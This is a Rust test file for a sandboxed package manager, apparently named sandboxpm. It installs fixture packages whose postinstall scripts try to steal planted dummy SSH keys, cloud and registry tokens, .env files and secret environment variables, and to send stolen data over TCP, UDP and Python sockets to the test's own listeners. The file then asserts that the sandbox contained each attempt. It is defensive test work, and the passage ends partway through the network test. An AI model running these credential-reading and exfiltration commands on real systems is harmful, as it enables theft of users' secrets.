//! Malicious packages against `sandboxpm install`: one fixture package per attack, served by the
//! loopback fixture registry, approved in `.sandboxpmrc` so that its install-time code really runs
//! in the sandbox, for every Linux backend (`native`, `landlock`) as root and as the unprivileged
//! test user.
//!
//! Each attack runs twice in a fresh project: first with the package blacklisted (the reference:
//! everything installed, nothing run), then, after removing `node_modules`, the lockfile and the
//! store, with the package whitelisted. Every file of the fake home, the project (`package.json`,
//! the lockfile, `.env`, `.git`, the other packages in `node_modules`), the store and the account's
//! real shell rc files must then be byte for byte what the reference left; only the attacking
//! package's own directory and the markers sandboxpm writes itself may differ. On top of that:
//!
//! - no planted secret (home credentials, `.env`, secret environment variables) appears in the
//!   install's output (script output included: `SANDBOXPM_SCRIPT_OUTPUT=1`) or in any file the
//!   script left in its own directory;
//! - the control: after its attack, every script writes `built.txt` into its own directory, so a
//!   sandbox that worked by breaking everything fails the test too.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use sandboxpm_test_support::{BuiltPackage, FixtureRegistry, PackageBuilder};
use support::{Identity, binary, require, sandboxes, text};

// ---- the harness -----------------------------------------------------------------------------

/// Secrets planted for one run; each carries a nonce, so a match can only come from this run.
struct Secrets {
    nonce: String,
    ssh: String,
    npmrc: String,
    npmrc_otp: String,
    aws: String,
    dotenv: String,
    npm_token: String,
    github_token: String,
    aws_env: String,
    global_npmrc: String,
    cargo: String,
}

impl Secrets {
    fn new() -> Secrets {
        static NEXT: AtomicUsize = AtomicUsize::new(0);
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos();
        let nonce = format!(
            "{:x}{:x}{:x}",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed),
            nanos
        );
        let s = |what: &str| format!("ATTACK-{what}-{nonce}");
        Secrets {
            ssh: s("SSH-KEY"),
            npmrc: s("NPMRC-TOKEN"),
            npmrc_otp: s("NPMRC-OTP"),
            aws: s("AWS-FILE-SECRET"),
            dotenv: s("DOTENV-PASSWORD"),
            npm_token: s("ENV-NPM-TOKEN"),
            github_token: s("ENV-GITHUB-TOKEN"),
            aws_env: s("ENV-AWS-SECRET"),
            global_npmrc: s("GLOBAL-NPMRC-TOKEN"),
            cargo: s("CARGO-REGISTRY-TOKEN"),
            nonce,
        }
    }

    fn all(&self) -> [&str; 10] {
        [
            &self.ssh,
            &self.npmrc,
            &self.npmrc_otp,
            &self.aws,
            &self.dotenv,
            &self.npm_token,
            &self.github_token,
            &self.aws_env,
            &self.global_npmrc,
            &self.cargo,
        ]
    }
}

/// One run of one attack: a fake home, a project and a `SANDBOXPM_HOME`, owned by `identity`.
struct Case {
    _dir: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
    sbx_home: PathBuf,
    identity: Identity,
    backend: &'static str,
    secrets: Secrets,
    /// The attacking package.
    name: &'static str,
    /// Directories put first on `PATH` (tools installed in the home).
    tool_path: Vec<PathBuf>,
}

impl Case {
    fn new(backend: &'static str, identity: &Identity, name: &'static str) -> Case {
        Case::with_tools(backend, identity, name, false)
    }

    /// With `tools`, the home also holds what a developer's home has on `PATH`: node installed by
    /// a version manager (`~/.nvm/versions/node/<v>/bin/node`, whose installation holds npm's
    /// global `etc/npmrc`) and Rust's `~/.cargo/bin` (next to `~/.cargo/credentials.toml`), each
    /// with a token.
    fn with_tools(
        backend: &'static str,
        identity: &Identity,
        name: &'static str,
        tools: bool,
    ) -> Case {
        let dir = tempfile::Builder::new()
            .prefix("sandboxpm-attack-")
            .tempdir()
            .unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
        let secrets = Secrets::new();
        let mut case = Case {
            home: root.join("home"),
            project: root.join("project"),
            sbx_home: root.join("sandboxpm-home"),
            _dir: dir,
            identity: identity.clone(),
            backend,
            secrets,
            name,
            tool_path: Vec::new(),
        };
        let s = &case.secrets;
        let files: Vec<(PathBuf, String)> = vec![
            (
                case.home.join(".ssh/id_rsa"),
                format!(
                    "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
                    s.ssh
                ),
            ),
            (
                case.home.join(".aws/credentials"),
                format!(
                    "[default]\naws_access_key_id = AKIAATTACKTEST\naws_secret_access_key = {}\n",
                    s.aws
                ),
            ),
            // The user's npm configuration: sandboxpm reads it (it is the user config), so a token
            // and an OTP in it must not reach a script through `npm_config_*` either.
            (
                case.home.join(".npmrc"),
                format!(
                    "//127.0.0.1:9/:_authToken={}\notp={}\nfund=false\n",
                    s.npmrc, s.npmrc_otp
                ),
            ),
            (case.home.join(".bashrc"), "# the user's bashrc\n".into()),
            (case.home.join(".profile"), "# the user's profile\n".into()),
            (case.home.join(".gitconfig"), "[user]\n\tname = u\n".into()),
            (
                case.project.join(".env"),
                format!("DB_PASSWORD={}\n", s.dotenv),
            ),
            (
                case.project.join("config/.env.production"),
                format!("API_KEY={}\n", s.dotenv),
            ),
            (
                case.project.join("src/index.js"),
                "console.log('app')\n".into(),
            ),
            (
                case.project.join(".git/HEAD"),
                "ref: refs/heads/main\n".into(),
            ),
            (
                case.project.join(".git/config"),
                "[core]\n\tbare = false\n".into(),
            ),
            (
                case.project.join(".git/hooks/pre-commit.sample"),
                "#!/bin/sh\nexit 0\n".into(),
            ),
        ];
        for (path, content) in files {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, content).unwrap();
        }
        std::fs::create_dir_all(&case.sbx_home).unwrap();
        if tools {
            let node_root = case.home.join(".nvm/versions/node/v20.0.0");
            let files = [
                (
                    node_root.join("bin/node"),
                    "#!/bin/sh\nexec /usr/bin/node \"$@\"\n".to_string(),
                ),
                (
                    node_root.join("etc/npmrc"),
                    format!("//127.0.0.1:9/:_authToken={}\n", case.secrets.global_npmrc),
                ),
                (
                    case.home.join(".cargo/bin/cargo"),
                    "#!/bin/sh\necho cargo\n".to_string(),
                ),
                (
                    case.home.join(".cargo/credentials.toml"),
                    format!("[registry]\ntoken = \"{}\"\n", case.secrets.cargo),
                ),
            ];
            for (path, content) in files {
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(&path, content).unwrap();
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            case.tool_path = vec![case.home.join(".cargo/bin"), node_root.join("bin")];
        }
        case
    }

    /// The attacking package's directory, where its scripts run.
    fn package_dir(&self) -> PathBuf {
        self.project.join(format!(
            "node_modules/.sandboxpm/{0}@1.0.0/node_modules/{0}",
            self.name
        ))
    }

    /// `text` with the placeholders of attack scripts filled in for this run.
    fn fill(&self, text: &str) -> String {
        let s = |p: &Path| p.to_string_lossy().into_owned();
        text.replace("@FAKE_HOME@", &s(&self.home))
            .replace("@PROJECT@", &s(&self.project))
            .replace("@SBX_HOME@", &s(&self.sbx_home))
            .replace("@PASSWD_HOME@", &s(&self.identity.passwd_home()))
            .replace("@PACKAGE_DIR@", &s(&self.package_dir()))
            .replace("@NONCE@", &self.secrets.nonce)
    }

    fn label(&self) -> String {
        format!("{} as {}", self.backend, self.identity.label())
    }

    fn own(&self) {
        if let Identity::User { uid, gid, .. } = &self.identity {
            for dir in [&self.home, &self.project, &self.sbx_home] {
                chown_tree(dir, *uid, *gid);
            }
        }
    }

    /// `sandboxpm <args>` in the project, as the identity, with the fake home, the secret
    /// environment variables, and no terminal.
    fn command(&self, registry: &str, args: &[&str]) -> Command {
        let mut command = match &self.identity {
            Identity::Root => Command::new(binary()),
            Identity::User { uid, gid, .. } => {
                let mut c = Command::new("setpriv");
                c.args([
                    format!("--reuid={uid}"),
                    format!("--regid={gid}"),
                    "--init-groups".into(),
                    "--".into(),
                ]);
                c.arg(binary());
                c
            }
        };
        command
            .args(args)
            .current_dir(&self.project)
            .env_clear()
            .env("PATH", self.path())
            .env("HOME", &self.home)
            .env("LANG", "C.UTF-8")
            .env("SANDBOXPM_HOME", &self.sbx_home)
            .env("SANDBOXPM_SCRIPT_OUTPUT", "1")
            .env("npm_config_registry", registry)
            .env("NPM_TOKEN", &self.secrets.npm_token)
            .env("GITHUB_TOKEN", &self.secrets.github_token)
            .env("AWS_SECRET_ACCESS_KEY", &self.secrets.aws_env);
        if let Some(nodedir) = node_headers() {
            command.env("npm_config_nodedir", nodedir);
        }
        command
    }

    fn path(&self) -> String {
        let mut dirs: Vec<String> = self
            .tool_path
            .iter()
            .map(|d| d.to_string_lossy().into_owned())
            .collect();
        dirs.push("/usr/local/bin:/usr/bin:/bin".into());
        dirs.join(":")
    }

    fn install(&self, registry: &str) -> Output {
        let mut command = self.command(registry, &["install"]);
        command.env("CI", "true").stdin(Stdio::null());
        run(command, Duration::from_secs(300))
    }

    fn write_sandboxpmrc(&self, list: &str) {
        let rc = format!(
            r#"{{"{list}": ["{}@1.0.0"], "policies": {{"onBlock": "continue"}}, "sandbox": {{"backend": "{}"}}}}"#,
            self.name, self.backend
        );
        let path = self.project.join(".sandboxpmrc");
        std::fs::write(&path, rc).unwrap();
        self.own();
    }

    /// Everything an attack must leave alone, and the host `/tmp` entries named after the nonce.
    fn state(&self) -> BTreeMap<PathBuf, Entry> {
        let mut state = BTreeMap::new();
        snapshot(&self.home, &mut state);
        snapshot(&self.project, &mut state);
        snapshot(&self.sbx_home.join("store"), &mut state);
        let passwd_home = self.identity.passwd_home();
        for rc in [
            ".bashrc",
            ".profile",
            ".zshrc",
            ".bash_profile",
            ".npmrc",
            ".config/autostart",
        ] {
            snapshot(&passwd_home.join(rc), &mut state);
        }
        for entry in std::fs::read_dir(std::env::temp_dir()).unwrap().flatten() {
            if entry
                .file_name()
                .to_string_lossy()
                .contains(&self.secrets.nonce)
            {
                snapshot(&entry.path(), &mut state);
            }
        }
        state
    }

    /// Whether sandboxpm (not the script) may change `path` between the two installs.
    fn may_differ(&self, path: &Path) -> bool {
        let internal = self.project.join("node_modules/.sandboxpm");
        path.starts_with(self.package_dir())
            || path == internal.join(".install-state.json")
            || path
                == internal
                    .join(format!("{}@1.0.0", self.name))
                    .join(".sandboxpm-scripts-done")
    }
}

/// What a snapshot keeps of a path: its kind and mode, and its content or link target.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Entry {
    Dir(u32),
    File(u32, Vec<u8>),
    Link(PathBuf),
    Other(u32),
}

fn snapshot(path: &Path, state: &mut BTreeMap<PathBuf, Entry>) {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return;
    };
    let kind = meta.file_type();
    let entry = if kind.is_dir() {
        for child in std::fs::read_dir(path).unwrap().flatten() {
            snapshot(&child.path(), state);
        }
        Entry::Dir(meta.mode())
    } else if kind.is_symlink() {
        Entry::Link(std::fs::read_link(path).unwrap())
    } else if kind.is_file() {
        Entry::File(meta.mode(), std::fs::read(path).unwrap_or_default())
    } else {
        Entry::Other(meta.mode())
    };
    state.insert(path.to_path_buf(), entry);
}

fn chown_tree(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if std::fs::symlink_metadata(path).unwrap().is_dir() {
        for entry in std::fs::read_dir(path).unwrap().flatten() {
            chown_tree(&entry.path(), uid, gid);
        }
    }
}

/// The regular files below `dir` (symlinks are not followed: a link the script planted to a host
/// file must not make the test read that file).
fn files_below(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            files_below(&entry.path(), out);
        } else if kind.is_file() {
            out.push(entry.path());
        }
    }
}

/// Runs `command` to its end (at most `limit`), collecting its output. The output pipes must
/// close soon after it exits: one held open means a process of the install outlived it.
fn run(mut command: Command, limit: Duration) -> Output {
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let streams: [Box<dyn Read + Send>; 2] = [
        Box::new(child.stdout.take().unwrap()),
        Box::new(child.stderr.take().unwrap()),
    ];
    for (i, mut stream) in streams.into_iter().enumerate() {
        let tx = tx.clone();
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = stream.read_to_end(&mut buf);
            let _ = tx.send((i, buf));
        });
    }
    let deadline = Instant::now() + limit;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("`sandboxpm` did not finish within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut streams = [Vec::new(), Vec::new()];
    for _ in 0..2 {
        let (i, buf) = rx
            .recv_timeout(Duration::from_secs(20))
            .expect("a process of the install kept its output open after it exited");
        streams[i] = buf;
    }
    let [stdout, stderr] = streams;
    Output {
        status,
        stdout,
        stderr,
    }
}

/// Node's headers for node-gyp (`npm_config_nodedir`): the fake home has no node-gyp cache and
/// the sandbox has no network to download one.
fn node_headers() -> Option<PathBuf> {
    let node = which_on_default_path("node")?;
    let root = std::fs::canonicalize(node)
        .ok()?
        .parent()?
        .parent()?
        .to_owned();
    root.join("include/node/common.gypi")
        .is_file()
        .then_some(root)
}

fn which_on_default_path(name: &str) -> Option<PathBuf> {
    ["/usr/local/bin", "/usr/bin", "/bin"]
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.is_file())
}

/// One attack: the attacking package (named `name`, version 1.0.0, a direct dependency of the
/// project) and whatever else the registry serves.
struct Attack<'a> {
    name: &'static str,
    /// Other direct dependencies of the project.
    others: &'a [&'static str],
    /// Tools installed in the home are on `PATH` (see [`Case::with_tools`]).
    tools: bool,
    /// It opens the sandbox's decoy credentials, so their opening is reported; for any other
    /// attack such a report would be a false alarm.
    opens_decoys: bool,
    /// The packages, built for the run (scripts may name its paths).
    packages: &'a dyn Fn(&Case) -> Vec<BuiltPackage>,
    /// How long to wait after the install before looking (for late writes).
    settle: Duration,
    /// Attack-specific checks.
    check: &'a dyn Fn(&Case, &Output),
}

/// Runs `attack` in every sandbox; every (backend, identity) runs even when an earlier one
/// fails, and the failures are reported together, one line per sandbox.
fn attack(attack: Attack<'_>) {
    let mut failed = Vec::new();
    for (backend, identity) in sandboxes() {
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            attack_in(&attack, backend, &identity);
        }));
        if let Err(panic) = result {
            let message = panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| (*s).to_string()))
                .unwrap_or_default();
            // The message starts with the sandbox's label; its first lines say what leaked.
            let head: Vec<&str> = message.lines().take(6).collect();
            failed.push(head.join("\n"));
        }
    }
    assert!(
        failed.is_empty(),
        "{} failed in {} sandbox(es):\n{}",
        attack.name,
        failed.len(),
        failed.join("\n")
    );
}

fn attack_in(attack: &Attack<'_>, backend: &'static str, identity: &Identity) {
    let case = Case::with_tools(backend, identity, attack.name, attack.tools);
    let context = case.label();
    let registry = FixtureRegistry::start().unwrap();
    for package in (attack.packages)(&case) {
        registry.add(&package);
    }
    let mut deps = serde_json::Map::new();
    for name in std::iter::once(&attack.name).chain(attack.others) {
        deps.insert((*name).to_string(), serde_json::json!("1.0.0"));
    }
    let manifest =
        serde_json::json!({"name": "victim-app", "version": "1.0.0", "dependencies": deps});
    std::fs::write(
        case.project.join("package.json"),
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();

    // The reference: the same install with the attacker's code refused.
    case.write_sandboxpmrc("blacklist");
    let reference_run = case.install(&registry.url());
    assert!(
        reference_run.status.success(),
        "{context}: the reference install failed:\n{}",
        text(&reference_run)
    );
    let mut reference = case.state();
    for stale in ["node_modules", "sandboxpm-lock.json"] {
        let path = case.project.join(stale);
        if path.is_dir() {
            std::fs::remove_dir_all(&path).unwrap();
        } else {
            std::fs::remove_file(&path).unwrap();
        }
    }
    make_writable(&case.sbx_home.join("store"));
    std::fs::remove_dir_all(case.sbx_home.join("store")).unwrap();

    // The attack.
    case.write_sandboxpmrc("whitelist");
    snapshot(&case.project.join(".sandboxpmrc"), &mut reference);
    let out = case.install(&registry.url());
    let t = text(&out);
    assert!(out.status.success(), "{context}: the install failed:\n{t}");
    assert!(
        t.contains(&format!("running {}@1.0.0", attack.name)),
        "{context}: the attacker's script did not run:\n{t}"
    );
    std::thread::sleep(attack.settle);
    if !attack.opens_decoys {
        assert!(
            !t.contains(": opened ~/"),
            "{context}: a decoy's opening was reported, but this attack opens none:\n{t}"
        );
    }

    for secret in case.secrets.all() {
        assert!(
            !t.contains(secret),
            "{context}: secret {secret} in the install's output:\n{t}"
        );
    }
    let mut left = Vec::new();
    files_below(&case.package_dir(), &mut left);
    for file in &left {
        let content = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
        for secret in case.secrets.all() {
            assert!(
                !content.contains(secret),
                "{context}: secret {secret} in {}:\n{content}",
                file.display()
            );
        }
    }
    let after = case.state();
    let changed: Vec<&PathBuf> = reference
        .keys()
        .chain(after.keys())
        .filter(|p| reference.get(*p) != after.get(*p) && !case.may_differ(p))
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    assert!(
        changed.is_empty(),
        "{context}: the host changed: {changed:#?}\n{t}"
    );
    // The control: the script's ordinary work, in the same sandbox, landed.
    assert_eq!(
        std::fs::read_to_string(case.package_dir().join("built.txt")).ok(),
        Some("BUILT".to_string()),
        "{context}: the control did not run, so the sandbox did not work at all:\n{t}"
    );
    (attack.check)(&case, &out);
    if std::env::var_os("SANDBOXPM_ATTACK_DEBUG").is_some() {
        eprintln!("{context}: {}\n{t}", attack.name);
    }
    eprintln!("{context}: {} contained, control ran", attack.name);
}

fn make_writable(dir: &Path) {
    let Ok(meta) = std::fs::symlink_metadata(dir) else {
        return;
    };
    if meta.is_dir() {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            make_writable(&entry.path());
        }
    }
}

/// The helpers every JavaScript attack starts with: `read`, `write` and `sh` record what they got
/// in `log`, which [`JS_END`] saves to `loot.txt` and prints.
const JS_PRELUDE: &str = r#"
const fs = require('fs');
const cp = require('child_process');
const log = [];
const note = (s) => log.push(s);
function read(p) {
  try { note('READ ' + p + ' => ' + fs.readFileSync(p, 'utf8')); }
  catch (e) { note('read ' + p + ': ' + e.code); }
}
function write(p, data) {
  try { fs.appendFileSync(p, data); note('WROTE ' + p); }
  catch (e) { note('write ' + p + ': ' + e.code); }
}
function sh(cmd) {
  const r = cp.spawnSync('sh', ['-c', cmd], { encoding: 'utf8', timeout: 20000 });
  note('SH ' + cmd + ' => ' + r.status + '\n' + (r.stdout || '') + (r.stderr || ''));
}
"#;

/// The end of every JavaScript attack: the loot is saved and printed, then the control.
const JS_END: &str = r#"
fs.writeFileSync('loot.txt', log.join('\n') + '\n');
console.log(log.join('\n'));
fs.writeFileSync('built.txt', 'BUILT');
"#;

/// A package whose `postinstall` runs `attack.js` (`body` between [`JS_PRELUDE`] and [`JS_END`]).
fn js_attacker(case: &Case, body: &str) -> PackageBuilder {
    PackageBuilder::new(case.name, "1.0.0")
        .script("postinstall", "node attack.js")
        .file("index.js", "module.exports = 1;\n")
        .file(
            "attack.js",
            format!("{JS_PRELUDE}\n{}\n{JS_END}", case.fill(body)),
        )
}

fn loot(case: &Case) -> String {
    std::fs::read_to_string(case.package_dir().join("loot.txt")).unwrap_or_else(|e| {
        panic!(
            "{}: the attack left no loot.txt ({e}), so it did not run",
            case.label()
        )
    })
}

// ---- a) credentials --------------------------------------------------------------------------

#[test]
fn script_cannot_steal_home_credentials_or_project_dotenv() {
    let body = r#"
const homes = [process.env.HOME, '@FAKE_HOME@', '@PASSWD_HOME@'];
for (const h of homes)
  for (const f of ['.ssh/id_rsa', '.npmrc', '.aws/credentials']) read(h + '/' + f);
for (const p of ['@PROJECT@/.env', process.env.INIT_CWD + '/.env', '../../../../../.env',
                 '@PROJECT@/config/.env.production', '../../../../../config/.env.production'])
  read(p);
sh('cat ~/.ssh/id_rsa ~/.aws/credentials; ls -la ~ ~/.ssh @FAKE_HOME@ @PROJECT@ 2>&1');
sh('cat @FAKE_HOME@/.ssh/* @FAKE_HOME@/.aws/* @PROJECT@/.env* @PROJECT@/config/.env* 2>&1');
sh('find @PROJECT@ @FAKE_HOME@ -type f 2>&1 | head -50; grep -rs PASSWORD @PROJECT@ 2>&1 | head');
sh('ln -s @FAKE_HOME@/.ssh/id_rsa key-link; cat key-link; cp @PROJECT@/.env stolen.env; cat stolen.env');
sh('cat /proc/self/root@FAKE_HOME@/.ssh/id_rsa /proc/1/root@PROJECT@/.env 2>&1');
"#;
    attack(Attack {
        name: "steal-credentials",
        opens_decoys: true,
        others: &[],
        tools: false,
        packages: &|case| vec![js_attacker(case, body).build().unwrap()],
        settle: Duration::ZERO,
        check: &|case, out| {
            let loot = loot(case);
            // The script did read `~/.ssh/id_rsa`: it got the decoy, and the read was reported.
            assert!(
                loot.contains(sandboxpm_scripts::decoys::SSH_MARKER),
                "{}: the decoy key was not what ~/.ssh/id_rsa held:\n{loot}",
                case.label()
            );
            assert!(
                text(out)
                    .contains("blocked: steal-credentials@1.0.0 postinstall read ~/.ssh/id_rsa"),
                "{}: the theft was not reported:\n{}",
                case.label(),
                text(out)
            );
            // And so was the mere opening of each watched decoy, whatever the backend.
            for decoy in ["~/.ssh/id_rsa", "~/.aws/credentials"] {
                assert!(
                    text(out).contains(&format!(
                        "blocked: steal-credentials@1.0.0 postinstall: opened {decoy}"
                    )),
                    "{}: opening {decoy} was not reported:\n{}",
                    case.label(),
                    text(out)
                );
            }
            let project = case.project.to_string_lossy().into_owned();
            assert!(
                !loot.contains(&format!("READ {project}/.env")),
                "{}: the project's .env was readable:\n{loot}",
                case.label()
            );
        },
    });
}

/// A token in npm's global configuration (`<node's installation>/etc/npmrc`, where
/// `npm config set --global` writes) must stay hidden although node's installation is granted.
#[test]
fn script_cannot_read_the_global_npmrc_inside_nodes_installation() {
    let body = r#"
const root = require('path').resolve(process.env.npm_node_execpath, '../..');
for (const p of [root + '/etc/npmrc', '@FAKE_HOME@/.nvm/versions/node/v20.0.0/etc/npmrc',
                 process.env.HOME + '/.nvm/versions/node/v20.0.0/etc/npmrc'])
  read(p);
sh('ls -la "$(dirname "$(dirname "$npm_node_execpath")")"/etc 2>&1; npm config get globalconfig 2>&1');
"#;
    attack(Attack {
        name: "steal-global-npmrc",
        opens_decoys: false,
        others: &[],
        tools: true,
        packages: &|case| vec![js_attacker(case, body).build().unwrap()],
        settle: Duration::ZERO,
        check: &|case, _| {
            let loot = loot(case);
            // The control: node ran from the version manager's installation (readable), and the
            // attack found the file there (hidden: empty, or refused).
            let root = case.home.join(".nvm/versions/node/v20.0.0");
            assert!(
                loot.contains(&format!("{}/etc/npmrc", root.display()))
                    && loot.contains("SH ls -la"),
                "{}: the attack did not look where it should:\n{loot}",
                case.label()
            );
        },
    });
}

/// Tools installed in the home are on `PATH`, and their installation is granted so they run; a
/// credential stored next to them (`cargo login` writes `~/.cargo/credentials.toml`) is not.
#[test]
fn script_cannot_read_credentials_next_to_tools_on_path() {
    let body = r#"
for (const h of ['@FAKE_HOME@', process.env.HOME])
  for (const f of ['.cargo/credentials.toml', '.cargo/credentials']) read(h + '/' + f);
sh('ls -la @FAKE_HOME@/.cargo 2>&1; cargo 2>&1');
"#;
    attack(Attack {
        name: "steal-tool-credentials",
        opens_decoys: false,
        others: &[],
        tools: true,
        packages: &|case| vec![js_attacker(case, body).build().unwrap()],
        settle: Duration::ZERO,
        check: &|case, _| {
            let loot = loot(case);
            // The control: the tool on PATH runs.
            assert!(
                loot.contains("; cargo 2>&1 => 0"),
                "{}: the tool on PATH did not run:\n{loot}",
                case.label()
            );
        },
    });
}

// ---- b) the environment ----------------------------------------------------------------------

#[test]
fn script_cannot_see_secret_environment_variables() {
    let script = r#"
env > env.txt
printenv NPM_TOKEN GITHUB_TOKEN AWS_SECRET_ACCESS_KEY >> env.txt
for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done >> env.txt 2>&1
node -e 'console.log(JSON.stringify(process.env))' >> env.txt
cat env.txt
echo BUILT | tr -d '\n' > built.txt
"#;
    attack(Attack {
        name: "dump-env",
        opens_decoys: false,
        others: &[],
        tools: false,
        packages: &|case| {
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "sh attack.sh")
                    .file("index.js", "")
                    .file("attack.sh", script)
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::ZERO,
        check: &|case, _| {
            let env = std::fs::read_to_string(case.package_dir().join("env.txt")).unwrap();
            // The control: the dump worked and shows what npm gives a script.
            assert!(
                env.contains("npm_lifecycle_event=postinstall")
                    && env.contains("npm_package_name=dump-env"),
                "{}: the environment dump is empty:\n{env}",
                case.label()
            );
            for name in ["NPM_TOKEN=", "GITHUB_TOKEN=", "AWS_SECRET_ACCESS_KEY="] {
                assert!(
                    !env.lines().any(|l| l.starts_with(name)),
                    "{}: {name} reached the script:\n{env}",
                    case.label()
                );
            }
        },
    });
}

// ---- c) the network --------------------------------------------------------------------------

/// The host's non-loopback IPv4 addresses (from the kernel's local routing table).
fn host_addresses() -> Vec<IpAddr> {
    let Ok(trie) = std::fs::read_to_string("/proc/net/fib_trie") else {
        return Vec::new();
    };
    let lines: Vec<&str> = trie.lines().collect();
    let mut out: Vec<IpAddr> = lines
        .windows(2)
        .filter(|w| w[1].contains("/32 host LOCAL"))
        .filter_map(|w| w[0].trim().trim_start_matches("|--").trim().parse().ok())
        .filter(|ip: &IpAddr| !ip.is_loopback())
        .collect();
    out.sort();
    out.dedup();
    out
}

#[test]
fn script_cannot_exfiltrate_over_tcp_or_udp() {
    let mut targets: Vec<String> = Vec::new();
    let mut listeners = Vec::new();
    let mut udp = Vec::new();
    let mut addresses: Vec<IpAddr> = vec!["127.0.0.1".parse().unwrap()];
    if TcpListener::bind("[::1]:0").is_ok() {
        addresses.push("::1".parse().unwrap());
    }
    let external = host_addresses();
    require(
        !external.is_empty(),
        "the host has no non-loopback address to listen on",
    );
    addresses.extend(external);
    for ip in &addresses {
        let listener = TcpListener::bind((*ip, 0)).unwrap();
        let addr = listener.local_addr().unwrap();
        // The control of the listener: the host itself reaches it.
        let mut probe = TcpStream::connect(addr).unwrap();
        probe.write_all(b"probe").unwrap();
        let (mut accepted, _) = listener.accept().unwrap();
        let mut got = [0u8; 5];
        accepted.read_exact(&mut got).unwrap();
        assert_eq!(&got, b"probe");
        listener.set_nonblocking(true).unwrap();
        targets.push(format!("['{}', {}]", ip, addr.port()));
        listeners.push((addr, listener));
        let socket = UdpSocket::bind((*ip, 0)).unwrap();
        socket.set_nonblocking(true).unwrap();
        targets.push(format!(
            "['{}', {}, 'udp']",
            ip,
            socket.local_addr().unwrap().port()
        ));
        udp.push(socket);
    }
    let port = listeners[0].0.port();
    targets.push(format!("['localhost', {port}]"));
    let body = format!(
        r#"
const net = require('net');
const dgram = require('dgram');
let stolen = 'EXFIL ';
try {{ stolen += fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'); }} catch (e) {{}}
const targets = [{}];
function tcp(host, port) {{
  return new Promise((done) => {{
    let s;
    const end = (what) => {{ note('tcp ' + host + ':' + port + ' ' + what); try {{ s.destroy(); }} catch (e) {{}} done(); }};
    try {{ s = net.connect({{ host, port }}); }} catch (e) {{ return end('throw ' + e.code); }}
    s.setTimeout(3000, () => end('timeout'));
    s.on('connect', () => s.write(stolen, () => end('CONNECTED')));
    s.on('error', (e) => end('error ' + e.code));
  }});
}}
function udp(host, port) {{
  return new Promise((done) => {{
    try {{
      const s = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
      s.on('error', (e) => {{ note('udp ' + host + ':' + port + ' error ' + e.code); done(); }});
      s.send(stolen, port, host, (e) => {{ note('udp ' + host + ':' + port + ' ' + (e ? 'error ' + e.code : 'SENT')); s.close(); done(); }});
    }} catch (e) {{ note('udp ' + host + ':' + port + ' throw ' + e.code); done(); }}
  }});
}}
(async () => {{
  for (const [host, port, kind] of targets) await (kind === 'udp' ? udp(host, port) : tcp(host, port));
  sh("python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), 3); s.sendall(b\"EXFIL\"); print(\"PY-\" + \"LINKED\")' 127.0.0.1 {port}");
  {JS_END}
}})();
"#,
        targets.join(", ")
    );
    // This body is complete JavaScript: it ends with its own copy of JS_END after the awaits.
    attack(Attack {
        name: "exfiltrate",
        opens_decoys: false,
        others: &[],
        tools: false,
        packages: &|case| {
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "node attack.js")
                    .file("index.js", "")
                    .file("attack.js", format!("{JS_PRELUDE}\n{body}"))
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::from_millis(200),
        check: &|case, out| {
            let loot = loot(case);
            // (A datagram to 127.0.0.1 is `SENT` to the sandbox's own loopback: only the host
            // sockets below tell whether anything left.)
            assert!(
                !loot.contains("CONNECTED") && !loot.contains("PY-LINKED"),
                "{}: a connection was made:\n{loot}",
                case.label()
            );
            // The attempts were made (one line per target), and refused.
            let attempts = loot
                .lines()
                .filter(|l| l.starts_with("tcp ") || l.starts_with("udp "))
                .count();
            assert_eq!(attempts, targets.len(), "{}: {loot}", case.label());
